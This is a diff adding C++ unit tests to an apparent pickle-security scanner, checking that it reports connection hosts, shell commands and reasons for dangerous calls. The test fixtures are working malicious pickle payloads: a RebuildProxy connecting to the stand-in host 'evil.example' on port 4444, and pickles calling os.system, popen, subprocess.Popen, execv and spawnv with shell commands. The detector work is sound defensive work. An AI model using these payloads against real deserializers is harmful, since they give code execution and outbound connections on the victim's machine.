@@ -75,6 +75,56 @@ TEST(CallJudge, PicklesWithinStandInTheProgram) {
   EXPECT_EQ(reading.report.findings[1].how, "in a pickle within, depth 1: called by REDUCE");
 }
 
+// ListProxy of RebuildProxy with a Token ("ListProxy", address, "1"), kwds as given.
+std::string proxy(const std::string& address, const std::string& kwds) {
+  return "cmultiprocessing.managers\nRebuildProxy\n(cmultiprocessing.managers\nListProxy\n"
+         "cmultiprocessing.managers\nToken\n(S'ListProxy'\n" +
+         address + "S'1'\ntRS'pickle'\n" + kwds + "tR.";
+}
+
+TEST(CallJudge, TellsWhereAProxyConnects) {
+  const Reading abroad(proxy("(S'evil.example'\nI4444\nt", "(d"));
+  EXPECT_EQ(findings_of(abroad.report), "unknown-call multiprocessing.managers.RebuildProxy");
+  EXPECT_EQ(abroad.report.indicators.hosts, std::vector<std::string>{"evil.example"});
+  const Reading with_key(proxy("(S'evil.example'\nI4444\nt", "(dS'authkey'\nS'k'\ns"));
+  EXPECT_EQ(findings_of(with_key.report), "code-execution multiprocessing.managers.RebuildProxy");
+  EXPECT_EQ(with_key.report.indicators.hosts, std::vector<std::string>{"evil.example"});
+  for (const std::string here : {"(S'127.0.0.1'\nI4444\nt", "(S'localhost'\nI4444\nt", "S'/tmp/listener'\n",
+                                 "(S'/tmp/listener'\nI3\nt", "(S''\nI4444\nt"}) {
+    EXPECT_EQ(findings_of(Reading(proxy(here, "(d")).report), "") << here;
+  }
+}
+
+TEST(CallJudge, CommandsAreWhole) {
+  const struct {
+    std::string pickle, command;
+  } table[] = {
+      {"cos\nsystem\n(S'id'\ntR.", "id"},
+      {"cos\npopen\n(S'id'\nS'r'\ntR.", "id"},
+      {"csubprocess\nPopen\n((lS'/bin/sh'\naS'-c'\naS'id; ls'\natR.", "/bin/sh -c id; ls"},
+      {"cos\nexecv\n(S'/bin/sh'\n(S'sh'\nS'-c'\nS'id'\nttR.", "sh -c id"},
+      {"cos\nspawnv\n(I0\nS'/bin/sh'\n(S'-c'\nS'id'\nttR.", "/bin/sh -c id"},
+      {"cos\nsystem\n(S'sh'\ntR.", "sh"},
+      {"(I0\nI0\ncos\nsystem\n(S'id'\nt(dt.", "id"},
+  };
+  for (const auto& row : table) {
+    EXPECT_EQ(Reading(row.pickle).report.indicators.commands, std::vector<std::string>{row.command}) << row.pickle;
+  }
+}
+
+TEST(CallJudge, NamesAreOneLineAndReasonsAreSaid) {
+  const Reading reading(
+      "\x80\x04\x8c\x03"s
+      "app\x8c\x0d"
+      "f()\nos.system\x93)R.");
+  EXPECT_EQ(reading.report.program, "app.f()\\nos.system()");
+  for (const std::string pickle : {"capp\nf\n)R.", "cos\nsystem\n)R.", "cos\nsystem\n.", "c_io\nfoo\n)R."}) {
+    const Reading one(pickle);
+    ASSERT_FALSE(one.report.findings.empty()) << pickle;
+    for (const auto& finding : one.report.findings) EXPECT_NE(finding.reason, "") << pickle;
+  }
+}
+
 // A million instances: each finding once, and no list grows.
 TEST(CallJudge, ManyInstancesOfAUnknownClassAreToldOnce) {
   std::string pickle = "\x80\x02]capp\nCls\nq\x00"s;
